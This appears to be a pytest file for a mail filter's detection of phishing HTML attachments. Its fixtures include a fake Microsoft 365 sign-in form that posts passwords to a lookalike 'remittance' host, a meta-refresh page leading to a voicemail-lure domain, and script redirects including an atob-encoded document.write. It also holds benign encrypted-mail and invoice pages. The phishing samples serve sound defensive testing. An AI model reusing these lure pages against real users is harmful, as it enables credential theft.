"""Phishing pages sent as attachments (blind set 47: a "remittance advice" that is a sign-in form
posting to the sender's server, a "voicemail" page that sends the browser on at once; both delivered
on 3762a54), and the encrypted-mail envelopes that look like them. The held tests fail on 3762a54;
the delivered ones guard.
"""

from __future__ import annotations

from email.message import EmailMessage

import pytest

from rules.attached_pages import ASKS_PASSWORD, HIDDEN_PAGE, page_action, page_facts
from rules.content import parse
from rules.engine import EvaluationContext
from rules.model import Direction, Envelope
from tests.test_detection_classes import SHIPPED, _Dir

US = "bursar@example.com"

FORM = ('<html><head><title>Microsoft 365 - Secure Document</title></head><body><h3>Sign in to view document</h3>'
        '<form action="https://{host}/post.php" method="post"><input name="email" value="bursar@example.com">'
        '<input name="pass" type="password" placeholder="Password"><button type="submit">Sign in</button></form>'
        "<p>Remittance_0091827.pdf (214 KB)</p></body></html>")
REFRESH = ('<html><head><meta http-equiv="refresh" content="0;url=https://vm-notify-service.com/auth/ms?u=bursar@'
           'example.com"></head><body>Loading audio player...</body></html>')


def inbound(display: str, address: str, subject: str, body: str, page: str, name: str) -> str:
    """The action for one inbound message to us with ``page`` attached as the HTML file ``name``."""
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = f"{display} <{address}>", US, subject
    m["Message-ID"], m["Date"] = "<p@outside.test>", "Thu, 03 Dec 2026 10:00:00 +0000"
    m.set_content(body)
    m.add_attachment(page.encode(), maintype="text", subtype="html", filename=name)

    class Directory(_Dir):
        domains = ("example.com",)

    v = SHIPPED.evaluate(parse(m.as_bytes()), Envelope(address, (US,)), EvaluationContext({US: Direction.INBOUND},
                                                                                         Directory()))
    return v.to_json()["recipients"][US]["action"]


def test_an_attached_sign_in_form_posting_to_the_senders_server_is_held() -> None:
    assert inbound("Accounts Payable", "ap-remit@remittance-advices.net", "Remittance Advice - Payment Ref 0091827",
                   "Hi,\n\nPlease see the attached remittance advice for the payment made today.\n\nOpen the attached "
                   "file in your browser and sign in to view the secured PDF.\n",
                   FORM.format(host="remittance-advices.net"), "Remittance_0091827.html") == "quarantine"


def test_an_attached_page_that_sends_the_browser_elsewhere_is_held() -> None:
    assert inbound("Voice Mail", "voicemail@vm-notify-service.com", "New voicemail (0:47) from +44 20 7946 0321",
                   "You have a new voice message.\n\nDuration: 0:47\n\nOpen the attachment to play it.\n",
                   REFRESH, "VM_00047_playback.htm") == "quarantine"


CISCO = ('<html><body><p>Secure message from hsbc.co.uk</p><form action="https://res.cisco.com/websafe/decrypt" '
         'method="post"><input type="hidden" name="env" value="AAAB3NzaC1"><input type="password" name="key">'
         '<button>Open</button></form></body></html>')
INVOICE = ("<html><body><h2>Invoice INV-22817</h2><table><tr><td>Consulting, November</td><td>EUR 4,200.00</td>"
           "</tr></table><p>Payment within 30 days to the account on file.</p></body></html>")


@pytest.mark.parametrize(("display", "address", "subject", "page", "name"), [
    ("HSBC Secure Mail", "securemail@hsbc.co.uk", "Secure message: your facility letter", CISCO, "securedoc.html"),
    ("Brightline Consulting", "billing@brightline-consulting.de", "Invoice INV-22817", INVOICE, "INV-22817.html"),
], ids=["encrypted-mail-envelope", "html-invoice"])
def test_envelopes_and_plain_pages_are_delivered(display: str, address: str, subject: str, page: str,
                                                 name: str) -> None:
    assert inbound(display, address, subject, "Please see the attachment.\n", page, name) == "deliver"


@pytest.mark.parametrize(("page", "senders", "expected"), [
    (FORM.format(host="remittance-advices.net"), (), ASKS_PASSWORD),
    ('<form><input type="password" name="p"></form>', (), ASKS_PASSWORD),  # no action: posts wherever its script says
    ("<script>window.location.href = 'https://login-m365.example.net/?u=a';</script>", (),
     "opens login-m365.example.net"),
    ("<script>location.replace(\"https://x.top/a\")</script>", (), "opens x.top"),
    ("<script>document.write(atob('PGZvcm0+'))</script>", (), HIDDEN_PAGE),
    (CISCO, (), ""),                                          # an encrypted-mail service's own form
    (FORM.format(host="secure.hsbc.co.uk"), ("hsbc.co.uk",), ""),  # a known brand's page posting home
    (INVOICE, (), ""),
], ids=["form-elsewhere", "form-no-action", "script-redirect", "location-replace", "encoded-page", "cisco-envelope",
        "brand-posts-home", "plain-page"])
def test_what_an_attached_page_does(page: str, senders: tuple[str, ...], expected: str) -> None:
    assert page_action(page_facts(page), senders) == expected


def test_a_page_without_forms_or_redirects_has_no_facts() -> None:
    assert page_facts(INVOICE) is None
    assert page_facts("<a href='https://x.top'>click</a>" * 5000) is None  # links are the link check's, not this
